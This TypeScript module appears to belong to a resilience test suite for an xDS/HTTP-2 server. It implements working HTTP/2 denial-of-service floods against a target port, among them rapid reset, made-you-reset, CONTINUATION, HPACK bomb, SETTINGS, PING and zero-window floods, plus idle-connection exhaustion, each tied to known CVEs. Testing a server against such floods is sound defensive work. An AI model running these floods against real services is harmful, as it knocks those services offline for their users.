import { frameFlag } from '@evenkeel/xds/http2';
import type { Attack, Target } from './attacks.ts';
import {
  field,
  frame,
  headers,
  int32,
  literal,
  RawConnection,
  rawSocket,
  requestBlock,
  setting,
} from './raw-connection.ts';
import { again } from './repeat.ts';

/** Writes what a maker gives, as fast as the server takes it; a connection that is closed is opened again. */
function flood(make: (from: number) => Uint8Array, begin?: (connection: RawConnection) => void): Attack['run'] {
  return async ({ port, over }: Target) =>
    again(over, async () => {
      const connection = await RawConnection.open(port);
      begin?.(connection);
      for (let turn = 0; connection.isOpen && !over(); turn++) {
        connection.write(make(turn));
        await connection.drained();
      }
      connection.socket.destroy();
    });
}

/** A thousand of them. */
function many(one: (index: number) => Uint8Array): Buffer {
  return Buffer.concat(Array.from({ length: 1_000 }, (_, index) => one(index)));
}

const block = requestBlock();
const idOf = (turn: number, index: number): number => (turn * 1_000 + index) * 2 + 1;
const nothing = Buffer.alloc(0);
/** A stream for frames that need one. */
const oneStream = (connection: RawConnection): void => void connection.write(headers(1, block));

/** A request that the server itself has to reset, by each of five ways (CVE-2025-8671). */
function madeToReset(way: number, id: number): Buffer {
  const open = headers(id, block);
  const broken = [
    frame('windowUpdate', 0, id, int32(0)),
    frame('windowUpdate', 0, id, int32(2 ** 31 - 1)),
    frame('priority', 0, id, Buffer.alloc(4)),
    frame('priority', 0, id, int32(id)),
    Buffer.concat([frame('data', frameFlag.endStream, id, nothing), frame('data', 0, id, Buffer.from('x'))]),
  ];
  return Buffer.concat([open, broken[way]!]);
}

/** HPACK: a new entry of 4,000 bytes for each request, so that the table is filled and emptied. */
function churn(turn: number, index: number): Buffer {
  const entry = literal(0, 'y'.repeat(3_900), `x-${turn}-${index}`);
  return headers(idOf(turn, index), Buffer.concat([block, entry]), true);
}

/** Connections that say nothing, or no more than hello. */
function idle(count: number, hello: boolean): Attack['run'] {
  return async ({ port, over }) => {
    const open: { destroy(): void }[] = [];
    for (let index = 0; index < count && !over(); index++) {
      open.push(hello ? (await RawConnection.open(port)).socket : rawSocket(port));
      if (index % 100 === 99) await new Promise((resolve) => setImmediate(resolve));
    }
    while (!over()) await new Promise((resolve) => setTimeout(resolve, 50));
    for (const socket of open) socket.destroy();
  };
}

/** Connects, asks, goes, as often as it can. */
async function reconnecting({ port, over }: Target): Promise<void> {
  await again(over, async () => {
    const connections = await Promise.all(Array.from({ length: 20 }, () => RawConnection.open(port)));
    for (const connection of connections) {
      connection.write(headers(1, block));
      connection.message(
        1,
        Buffer.concat([field(4, 'type.googleapis.com/envoy.config.listener.v3.Listener'), field(3, 'a')]),
      );
    }
    await Promise.all(connections.map((connection) => connection.drained()));
    for (const connection of connections) connection.socket.destroy();
  });
}

export const http2Attacks: Readonly<Record<string, Attack>> = {
  'rapid-reset': {
    what: 'streams opened and reset (CVE-2023-44487)',
    run: flood((turn) =>
      many((index) =>
        Buffer.concat([headers(idOf(turn, index), block), frame('rstStream', 0, idOf(turn, index), int32(8))]),
      ),
    ),
  },
  'made-you-reset': {
    what: 'streams that the server has to reset, in five ways (CVE-2025-8671)',
    run: flood((turn) => many((index) => madeToReset(index % 5, idOf(turn, index)))),
  },
  'streams-beyond': {
    what: 'streams beyond SETTINGS_MAX_CONCURRENT_STREAMS',
    run: flood((turn) => many((index) => headers(idOf(turn, index), block))),
  },
  continuation: {
    what: 'a header block without end (CVE-2024-27316 and others)',
    run: flood(
      () => many(() => frame('continuation', 0, 1, Buffer.alloc(64, 0x83))),
      (connection) => void connection.write(frame('headers', 0, 1, block)),
    ),
  },
  'hpack-bomb': {
    what: 'one entry of 4,000 bytes, 15,000 times a block (CVE-2016-6581)',
    run: flood((turn) => {
      const entry = literal(0, 'x'.repeat(4_000), 'a');
      const more = Buffer.alloc(11_000, 0xbe);
      return headers(turn * 2 + 1, Buffer.concat([block, entry, more]), true);
    }),
  },
  'header-churn': {
    what: 'a new header of 4,000 bytes a request',
    run: flood((turn) => many((index) => churn(turn, index))),
  },
  'empty-data': {
    what: 'empty DATA (CVE-2019-9518)',
    run: flood(() => many(() => frame('data', 0, 1, nothing)), oneStream),
  },
  'one-byte-data': {
    what: 'messages byte by byte',
    run: flood(() => many(() => frame('data', 0, 1, Buffer.alloc(1))), oneStream),
  },
  priority: { what: 'PRIORITY', run: flood(() => many(() => frame('priority', 0, 1, Buffer.alloc(5)))) },
  settings: {
    what: 'SETTINGS (CVE-2019-9515)',
    run: flood(() => many((index) => frame('settings', 0, 0, setting(4, 65_535 + index)))),
  },
  ping: { what: 'PING (CVE-2019-9512)', run: flood(() => many(() => frame('ping', 0, 0, Buffer.alloc(8)))) },
  'window-update': { what: 'WINDOW_UPDATE of 1', run: flood(() => many(() => frame('windowUpdate', 0, 0, int32(1)))) },
  'zero-window': {
    what: 'streams whose window is 0, subscribed to everything (CVE-2019-9511, 9517)',
    run: async ({ port, over }) =>
      again(over, async () => {
        const connection = await RawConnection.open(port, setting(4, 0));
        for (let id = 1; id < 200; id += 2) {
          connection.write(headers(id, block));
          connection.message(id, field(4, 'type.googleapis.com/envoy.config.cluster.v3.Cluster'));
        }
        while (connection.isOpen && !over()) await new Promise((resolve) => setTimeout(resolve, 50));
        connection.socket.destroy();
      }),
  },
  garbage: { what: 'connections that speak something else', run: flood(() => Buffer.alloc(1_000, 0x41)) },
  'idle-connections': { what: '2,000 connections that say no more than hello', run: idle(2_000, true) },
  'silent-connections': { what: '2,000 connections that say nothing', run: idle(2_000, false) },
  reconnecting: { what: 'connects, asks and goes, 20 at a time', run: reconnecting },
};
